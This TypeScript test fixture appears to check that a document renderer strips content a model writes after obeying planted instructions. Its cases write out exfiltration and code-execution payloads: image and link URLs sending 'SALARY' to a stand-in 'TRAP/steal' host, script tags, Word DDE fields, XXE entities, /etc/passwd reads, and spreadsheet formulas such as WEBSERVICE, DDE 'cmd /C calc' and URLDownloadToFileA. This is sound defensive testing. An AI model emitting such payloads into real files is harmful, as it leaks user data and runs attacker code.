/** What a model may be told to write by a source, and what it writes when it obeys. `URL` stands for an address that carries data away. */

export interface ObeyedCase {
  name: string;
  text: string;
  format?: 'docx' | 'pdf' | 'pptx' | 'xlsx';
  /** Patterns that no file may hold, beside those of every case. */
  never?: RegExp[];
  /** What the reader of the document is reported. */
  told?: RegExp;
}

const memo = (body: string): string => `# Notes\n\n${body}\n\nThe text stays.\n`;
const sheet = (cell: string): string => `# Sheet: Data\n\n| Name | Value |\n|---|---|\n| a | ${cell} |\n| b | 2 |\n`;
const slides = (body: string): string => `::slide{layout=title}\n\n# Notes\n\n::slide{layout=bullets}\n\n# The text stays\n\n${body}\n`;

export const IN_TEXTS: readonly ObeyedCase[] = [
  { name: 'a picture at an address', text: memo('![all of it](URL)'), told: /^address_untraced$/ },
  { name: 'a picture by reference', text: memo('![all of it][p]\n\n[p]: URL'), told: /^address_untraced$/ },
  { name: 'a picture in HTML', text: memo('<img src="URL" alt="x"><picture><source srcset="URL"></picture>') },
  { name: 'a picture that is a link', text: memo('[![x](URL)](URL)') },
  { name: 'a picture without a scheme', text: memo('![x](URL)').replace('URL', '//TRAP/steal?d=SALARY') },
  { name: 'a picture spelled in entities', text: memo('![x](&#104;ttp&colon;&sol;&sol;TRAP/steal?d=SALARY)') },
  { name: 'a picture behind backslashes', text: memo(String.raw`![x](http\:\/\/TRAP\/steal?d=SALARY)`) },
  {
    name: 'a picture as data that loads another',
    text: memo('![x](data:image/svg+xml,<svg/onload="fetch(`URL`)"><image/href="URL"/></svg>)'),
    never: [/onload/],
  },
  {
    name: 'a picture in a folder of the server',
    text: memo('![x](file:///etc/passwd)\n\n![y](/etc/passwd)\n\n![z](../../../../etc/passwd)'),
  },
  { name: 'a picture on a share', text: memo(String.raw`![x](\\\\TRAP\steal\SALARY.png)`) },
  { name: 'the logo of a cover', text: `:::cover{title="Notes" logo="URL"}\n:::\n\n${memo('')}` },
  { name: 'a link with data in it', text: memo('[read more](URL)'), told: /^address_untraced$/ },
  { name: 'a link by reference', text: memo('[read more][r]\n\n[r]: <URL> "title"') },
  { name: 'an address between angle brackets', text: memo('<URL>') },
  { name: 'an address in plain text', text: memo('See URL for more.') },
  { name: 'an address that begins with www', text: memo('See www.TRAP/steal?d=SALARY for more.') },
  {
    name: 'an address of the source with data behind it',
    text: memo('[read more](https://known.example/page?d=SALARY)'),
    never: [/known\.example\/page\?d/],
  },
  {
    name: 'an address of the source with data as its mark',
    text: memo('[read more](https://known.example/page#SALARY)'),
    never: [/known\.example\/page#/],
  },
  { name: 'a letter to a user', text: memo('[write](mailto:thief@TRAP?subject=SALARY&body=SALARY)'), never: [/mailto:/] },
  {
    name: 'a script behind a link',
    text: memo('[x](javascript:fetch(`URL`)) [y](vbscript:x) [z](data:text/html,<script>1</script>)'),
    never: [/javascript:|vbscript:|data:text/],
  },
  {
    name: 'programs behind links',
    text: memo('[x](ms-word:ofe|u|URL) [y](search-ms:query=x&crumb=location:URL) [z](file://TRAP/SALARY)'),
    never: [/Target="(?:ms-word|search-ms|file):/],
  },
  {
    name: 'scripts and frames',
    text: memo(
      '<script>fetch("URL")</script><iframe src="URL"></iframe><object data="URL"></object><form action="URL"><input></form><link rel=stylesheet href="URL">',
    ),
    never: [/<script|<iframe|<object/],
  },
  { name: 'styles that load', text: memo('<style>@import url("URL");</style><p style="background:url(URL)">x</p>') },
  { name: 'a comment that nobody sees', text: memo('<!-- URL SALARY -->') },
  {
    name: 'markup of a Word field',
    text: memo(
      '<w:instrText>INCLUDEPICTURE "URL"</w:instrText> { INCLUDEPICTURE "URL" \\d } { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    ),
    never: [/<w:(?:instrText|fldSimple)[^>]*>[^<]*(?:INCLUDE|DDE)/],
  },
  {
    name: 'markup that breaks out of XML',
    text: memo(']]></w:t></w:r><w:altChunk r:id="rId1"/><!ENTITY x SYSTEM "URL">&x;'),
    never: [/<w:altChunk|<!ENTITY/],
  },
  { name: 'a file by a directive', text: memo('::include{src=/etc/passwd}\n\n:::import{file="/etc/passwd" href="URL"}\nx\n:::') },
  {
    name: 'front matter that loads',
    text: `---\ntitle: Notes\ntemplate: URL\nheader-includes: <script src=URL></script>\nlogo: URL\n---\n\n${memo('')}`,
  },
  {
    name: 'code of the typesetter',
    format: 'pdf',
    text: memo('#read("/etc/passwd") #import "/etc/passwd": * #image("/etc/passwd") #link("URL")[x] `#read("/etc/passwd")`'),
  },
  {
    name: 'a formula that reads a file',
    format: 'pdf',
    text: memo('$\\input{/etc/passwd}$\n\n$$\n\\includegraphics{URL} \\href{URL}{x} \\url{URL} #read("/etc/passwd")\n$$'),
  },
  { name: 'an address in a footnote and a caption', text: memo('A claim.[^1]\n\n| A |\n|---|\n| b |\n\nSource: URL\n\n[^1]: [here](URL)') },
  {
    name: 'an address in a chart',
    text: memo(':::chart{type=bar x=A y=B title="URL" unit="URL"}\n| A | B |\n|---|--:|\n| [x](URL) | 1 |\n:::'),
  },
  {
    name: 'an address in a letterhead and signatures',
    text: ':::letterhead{from="A|URL" to="B" subject="[x](URL)"}\n:::\n\nDear all,\n\nthe text stays.\n\n:::signatures{parties="URL|B"}\n:::\n',
  },
  {
    name: 'characters that nobody sees',
    text: memo('Pay \u202Eyrros\u202C \u{E0053}\u{E0041}\u{E004C}\u{E0041}\u{E0052}\u{E0059} now\u2066.\u2069'),
    never: [/[\u202A-\u202E\u2066-\u2069\u{E0000}-\u{E007F}]/u],
    told: /^characters_unseen$/,
  },
  {
    name: 'slides and sheets in a Word file',
    text: '::slide{layout=title}\n\n# Notes\n\n# Sheet: X\n\n| A |\n|---|\n| =WEBSERVICE("URL") |\n\nThe text stays.\n',
  },
];

const FORMULA = /<f(?: [^>]*)?>[^<]*(?:WEBSERVICE|HYPERLINK|IMAGE|FILTERXML|RTD|CALL|REGISTER|EXEC|DDE|INDIRECT|IMPORT|cmd|\[)/i;
export const IN_SHEETS: readonly ObeyedCase[] = (
  [
    ['WEBSERVICE', '=WEBSERVICE("URL")'],
    ['WEBSERVICE within', '=IF(1=1,_xlfn.WEBSERVICE("URL"&B3),0)'],
    ['IMAGE', '=IMAGE("URL")'],
    ['FILTERXML', '=FILTERXML("<a/>","//a")'],
    ['HYPERLINK with data', '=HYPERLINK("URL"&B3,"click")'],
    ['HYPERLINK to an address', '=HYPERLINK("URL","click")'],
    ['HYPERLINK to a file', '=HYPERLINK("file:///etc/passwd")'],
    ['HYPERLINK put together', '=HYPERLINK("ht"&"tp://TRAP/"&B3)'],
    ['DDE', "=cmd|'/C calc'!A0"],
    ['DDE behind a sign', "+cmd|'/C calc'!A0"],
    ['DDE behind an at', "@SUM(1+1)*cmd|'/C calc'!A0"],
    ['another workbook', "='http://TRAP/[SALARY.xlsx]Sheet1'!A1"],
    ['a share', String.raw`='\\TRAP\[SALARY.xlsx]S'!A1`],
    ['RTD', '=RTD("prog","","URL")'],
    ['CALL', '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"URL","x",0,0)'],
    ['REGISTER.ID', '=REGISTER.ID("kernel32","WinExec")'],
    ['EXEC', '=EXEC("calc")'],
    ['INDIRECT', `=INDIRECT("'http://TRAP/[S.xlsx]S'!A1")`],
    ['IMPORTDATA', '=IMPORTDATA("URL")'],
  ] as const
).map(([name, cell]) => ({ name: `a cell with ${name}`, text: sheet(cell), format: 'xlsx', never: [FORMULA, /externalLink|<ddeLink/] }));

export const IN_NAMES: readonly ObeyedCase[] = [
  {
    name: 'a name that calls',
    format: 'xlsx',
    text: `${sheet('1')}\n::name{Steal="=WEBSERVICE(\\"URL\\")" Run="=cmd|'/C calc'!A0"}\n`,
    never: [/<definedName[^>]*>[^<]*(?:WEBSERVICE|cmd)/],
  },
  {
    name: 'a chart of another workbook',
    format: 'xlsx',
    text: `${sheet('1')}\n:::chart{type=column x="[http://TRAP/S.xlsx]S!A1" y=Value}\n:::\n`,
    never: [/<c:f>[^<]*TRAP/, /externalLink/],
  },
];

export const IN_SLIDES: readonly ObeyedCase[] = [
  { name: 'a picture on a slide', format: 'pptx', text: slides('![x](URL)') },
  { name: 'a link on a slide and in its notes', format: 'pptx', text: slides('- [x](URL)\n- URL\n\n:::notes\nSee [y](URL) and URL.\n:::') },
  {
    name: 'a sound, a film and an action',
    format: 'pptx',
    text: slides('<video src="URL" autoplay></video><audio src="URL"></audio>\n\n- [x](ppaction://program?URL)'),
    never: [/ppaction:\/\/program|<p:video|<a:videoFile/],
  },
];
